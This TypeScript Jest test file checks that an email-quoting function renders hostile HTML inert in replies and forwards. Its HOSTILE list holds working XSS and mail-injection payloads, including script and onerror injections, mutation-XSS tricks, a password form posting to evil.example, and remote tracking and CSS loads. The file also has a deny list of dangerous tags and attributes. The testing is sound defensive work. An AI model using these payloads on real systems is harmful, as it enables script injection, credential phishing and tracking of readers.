/** @jest-environment jsdom */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { Original } from '../../../conversations/send/mail-text';
import { quoteMail } from './quoted-mail';

const original = (html: string | null, text = 'Where is it?', contentIds: string[] = []): Original => ({
  from: [{ email: 'meera@mail.example', name: '"><script>steal()</script>' }],
  to: [{ email: 'care@shop.example', name: 'Care' }],
  cc: [],
  subject: '<img src=x onerror=steal()>',
  at: '2026-11-20T12:05:09Z',
  html,
  text,
  contentIds: new Set(contentIds),
});

/** As a mail reader parses it: nothing runs, loads, posts, covers the page or carries a style that could. */
function expectInert(html: string): void {
  const { body } = new DOMParser().parseFromString(html, 'text/html');
  const forbidden =
    'script,style,iframe,object,embed,form,input,button,svg,math,link,meta,base,video,audio,template,area';
  expect([...body.querySelectorAll(forbidden)]).toEqual([]);
  for (const element of body.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^(?:srcset|background|formaction|action|id|name|class)$/);
      if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:)/i);
      if (name === 'src') expect(value).toMatch(/^cid:/);
      if (name === 'style') expect(value).not.toMatch(/url|expression|import|position|display|behavior|binding|\\/i);
    }
  }
}
const withoutOurClass = (html: string) => html.replace(' class="moz-cite-prefix"', '');

const HOSTILE = [
  '<script>steal()</script>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<img src=x onerror=steal()>',
  '<img src="https://evil.example/pixel.gif" alt="Offer">',
  '<img src="//evil.example/p.gif" srcset="https://evil.example/2x 2x">',
  '<img src="cid:unknown" alt="&lt;script&gt;steal()&lt;/script&gt;">',
  '<img src="data:image/svg+xml,<svg onload=steal()>">',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<a href="java\nscript:steal()" onclick="steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/x) }</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>',
  '<div style="background-color:red;width:expression(steal())">x</div>',
  '<div style="color: red; border: 1px solid url(https://evil.example)">x</div>',
  '<table background="https://evil.example/b.png"><tr><td>x</table>',
  '</blockquote></div></body></html><script>steal()</script>',
  '<!--><script>steal()</script>-->',
  '<div>'.repeat(900) + 'deep',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
];

describe('a hostile original', () => {
  it.each(HOSTILE)('%# is quoted inert', (html) => {
    for (const kind of ['reply', 'forward'] as const)
      expectInert(withoutOurClass(quoteMail(kind, original(html)).html));
  });

  it('with too many nested elements is quoted as its plain text, without pictures', () => {
    const html = `<img src="cid:logo@shop">${'<b>'.repeat(100_000)}deep`;
    const quote = quoteMail('reply', original(html, 'Where is it?', ['logo@shop']));
    expect(quote.html).toContain('>Where is it?</blockquote>');
    expect([...quote.contentIds]).toEqual([]);
  });

  it('of plain text is text', () => {
    const { html } = quoteMail('reply', original(null, '<script>steal()</script>\n& more'));
    expectInert(withoutOurClass(html));
    expect(html).toContain('&lt;script&gt;steal()&lt;/script&gt;<br>&amp; more');
  });

  it('stays inert however its pieces are put together', () => {
    const piece = fc.oneof(fc.constantFrom(...HOSTILE.filter((one) => one.length < 500)), fc.string({ maxLength: 12 }));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        expectInert(withoutOurClass(quoteMail('forward', original(pieces.join(''))).html));
      }),
      { numRuns: 150 },
    );
  });
});

describe('a quoted mail', () => {
  it('shows the pictures that it brings along, and says what others are', () => {
    const html =
      '<img src="cid:logo@shop" alt="Logo" width=10><img src="https://cdn.example/a.png" alt="Kurta & more">';
    const quote = quoteMail('reply', original(html, '', ['logo@shop', 'other@shop']));
    expect(quote.html).toContain('src="cid:logo@shop"');
    expect(quote.html).toContain('Kurta &amp; more');
    expect([...quote.contentIds]).toEqual(['logo@shop']);
  });

  it('keeps its layout', () => {
    const html =
      '<table cellpadding="4" style="width:100%;color:#333"><tr><td align="right"><b>₹499</b></td></tr></table>';
    expect(quoteMail('forward', original(html)).html).toContain(
      '<table cellpadding="4" style="width:100%;color:#333"><tr><td align="right"><b>₹499</b></td></tr></table>',
    );
  });

  it('answered, is a blockquote below who wrote it, and lines that begin with > as text', () => {
    const { html, text } = quoteMail('reply', original('<p>Hello</p>', 'Hello\n> earlier'));
    expect(html).toMatch(
      /<div class="moz-cite-prefix">On Fri, 20 Nov 2026 12:05 UTC, .* wrote:<\/div><blockquote type="cite"/,
    );
    expect(text).toMatch(/^\nOn Fri, 20 Nov 2026 12:05 UTC, .* wrote:\n> Hello\n>> earlier$/s);
  });

  it('handed on, has its head above it and is not indented', () => {
    const { html, text } = quoteMail('forward', original('<p>Hello</p>', 'Hello'));
    expect(html).toContain('---------- Forwarded message ---------');
    expect(html).not.toContain('blockquote');
    expect(text).toContain('To: Care <care@shop.example>\n\nHello');
  });

  it('that is very long is cut, and says so', () => {
    const quote = quoteMail('reply', original(`<p>${'x'.repeat(600_000)}</p>`, 'y'.repeat(600_000)));
    expect(quote.html).toContain('[The original is longer than what is quoted here.]');
    expect(quote.text.length).toBeLessThan(510_000);
  });
});
